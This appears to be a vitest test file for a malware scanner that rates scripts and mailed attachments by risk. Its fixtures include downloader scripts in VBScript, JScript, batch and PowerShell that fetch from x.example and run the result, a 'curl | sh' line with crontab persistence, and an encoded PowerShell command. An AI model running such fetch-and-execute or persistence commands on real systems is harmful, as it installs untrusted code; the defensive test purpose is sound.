import { describe, expect, it } from 'vitest';
import { zipFile } from '../../../test/files/make-archives.ts';
import { carriersIn, text, worstOf } from '../../../test/files/scan-carriers.ts';

const ENCODED = Buffer.from(
  'Write-Output "this is a sample of a test and does nothing"',
  'utf16le',
);
const command = `powershell -NoP -enc ${ENCODED.toString('base64')}`;
const mailWith = (name: string, content: string) =>
  text(
    [
      'From: a@one.example',
      'To: b@two.example',
      'Subject: Documents',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=x',
      '',
      '--x',
      'Content-Type: text/plain',
      '',
      'See the file.',
      '--x',
      `Content-Type: application/octet-stream; name="${name}"`,
      `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64',
      '',
      Buffer.from(content).toString('base64'),
      '--x--',
      '',
    ].join('\r\n'),
  );

describe('a script under its own name', () => {
  it.each([
    [
      'a downloader of the Windows host',
      'a.vbs',
      'Set h = CreateObject("Microsoft.XMLHTTP")\nh.Open "GET", "https://x.example/a", 0\n' +
        'CreateObject("WScript.Shell").Run "a.exe"',
      'script-downloads',
    ],
    [
      'a downloader in JScript',
      'a.js',
      'var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1");\nh.Send();\n' +
        'new ActiveXObject("WScript.Shell").Exec("a");',
      'script-downloads',
    ],
    [
      'a batch file that fetches without encryption',
      'a.bat',
      '@echo off\r\ncurl http://x.example/a.exe -o a.exe\r\nstart "" a.exe\r\n',
      'script-downloads',
    ],
    [
      'PowerShell that runs what it fetches',
      'a.ps1',
      'iex (New-Object Net.WebClient).DownloadString("https://x.example/a")',
      'script-downloads',
    ],
    [
      'a scriptlet that starts a program',
      'a.sct',
      '<scriptlet><script language="JScript">new ActiveXObject("WScript.Shell").Run("a")</script></scriptlet>',
      'scriptlet-runs-programs',
    ],
    ['an encoded command', 'a.cmd', `@echo off\r\n${command}\r\n`, 'script-hidden-command'],
    ['an encoded script', 'a.vbe', '#@~^AAAAAA==abcdefgh^#~@', 'script-hidden-command'],
  ])('%s is High', async (_what, name, content, rule) => {
    expect(await carriersIn(text(content), name)).toContain(`${rule} (4)`);
  });

  it.each([
    [
      'one that starts a program',
      'a.wsf',
      '<job><script language="VBScript">CreateObject("WScript.Shell").Run "notes.exe"</script></job>',
      'script-runs-programs',
    ],
    [
      'one that starts a hidden window',
      'a.bat',
      '@echo off\r\npowershell -w hidden -file a.ps1\r\n',
      'script-runs-programs',
    ],
    ['one that decodes what it runs', 'a.js', 'eval(atob("YWxlcnQoMSk="))', 'script-unpacks'],
    [
      'a shell script that fetches, runs and stays',
      'a.sh',
      '#!/bin/sh\ncurl -s https://x.example/i | sh\n(crontab -l; echo "* * * * * x") | crontab -\n',
      'shell-runs-download',
    ],
  ])('%s is Medium', async (_what, name, content, rule) => {
    expect(await carriersIn(text(content), name)).toContain(`${rule} (3)`);
  });

  it.each([
    ['a module', 'a.js', 'export const add = (a, b) => a + b;\n'],
    ['a script of a page', 'a.js', 'document.querySelector("a").addEventListener("click", go);\n'],
    [
      'a build script',
      'build.sh',
      '#!/bin/bash\nset -e\ncurl -fsSL https://x.example/i.sh | sh\nmake\n',
    ],
    ['a batch file', 'build.bat', '@echo off\r\necho Building\r\nnode build.js\r\n'],
    [
      'an installer that says what it does',
      'setup.ps1',
      'Write-Host "Installing"\nInvoke-WebRequest https://x.example/a.msi -OutFile a.msi\n' +
        'Start-Process msiexec.exe -ArgumentList "/i a.msi"',
    ],
    ['a script of the host that starts nothing', 'a.vbs', 'MsgBox "Hello"\n'],
    [
      'prose about scripts',
      'a.txt',
      'Never open a .vbs that uses WScript.Shell or powershell -enc.',
    ],
    [
      'source of a tool',
      'a.py',
      'import subprocess\nsubprocess.run(["powershell", "-Command", "dir"])\n',
    ],
  ])('%s is below Medium', async (_what, name, content) => {
    expect(await worstOf(text(content), name)).toBeLessThan(3);
  });
});

describe('what brought a script', () => {
  it('makes it Medium where a mail did', async () => {
    const found = await carriersIn(mailWith('minutes.js', 'console.log(1)\n'), 'a.eml');
    expect(found).toContain('script-sent (3)');
  });

  it('is asked through an archive of few files, and not through a project', async () => {
    const files = (count: number) =>
      Buffer.from(
        zipFile(
          Array.from({ length: count }, (_, index) => ({
            name: `f${index}.js`,
            content: text(`console.log(${index})\n`),
          })),
        ),
      ).toString('latin1');
    const sent = (count: number) => mailWithBytes('a.zip', files(count));
    expect(await carriersIn(sent(2), 'a.eml')).toContain('script-sent (3)');
    expect(await carriersIn(sent(12), 'a.eml')).toEqual([]);
  });
});

const mailWithBytes = (name: string, latin: string) =>
  text(
    Buffer.from(mailWith(name, ''))
      .toString()
      .replace(
        '\r\n\r\n\r\n--x--',
        `\r\n\r\n${Buffer.from(latin, 'latin1').toString('base64')}\r\n--x--`,
      ),
  );
